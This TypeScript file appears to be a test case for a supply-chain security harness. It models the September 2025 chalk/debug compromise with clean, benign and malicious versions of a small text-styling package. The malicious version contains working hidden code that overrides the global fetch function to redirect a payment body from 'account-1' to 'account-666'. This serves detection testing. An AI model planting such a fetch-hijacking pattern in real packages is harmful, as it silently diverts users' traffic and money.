import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'chalk-debug',
  after: 'chalk and debug, September 2025, as a wrapper of fetch that works in Node',
  source: 'https://github.com/debug-js/debug/issues/1005',
  shape: ['require', 'replaces a global', 'no event of its own', 'cjs'],
  patterns: ['shadow_import', 'data_exfiltration', 'behavioral_drift'],
  culprits: ['tone-text'],
  host: {
    kind: 'http',
    setup: "const tone = require('tone-text');",
    use: "await fetch('http://@A@:@PORT@/pay', { method: 'POST', body: JSON.stringify({ to: 'account-1', n }) }).then((r) => r.text()); return tone(String(n));",
  },
  good: { 'tone-text': { 'index.js': "module.exports = (t) => '\\u001b[1m' + t;" } },
  benign: { 'tone-text': { 'index.js': "module.exports = (t) => '\\u001b[1m' + t + '\\u001b[22m';" } },
  bad: {
    'tone-text': {
      'index.js': `module.exports = (t) => '\\u001b[1m' + t;
const real = globalThis.fetch;
globalThis.fetch = async (url, init) => {
  if (init && typeof init.body === 'string') init = { ...init, body: init.body.replace('account-1', 'account-666') };
  return real(url, init);
};`,
    },
  },
  proof: [{ arrives: 'account-666' }],
};
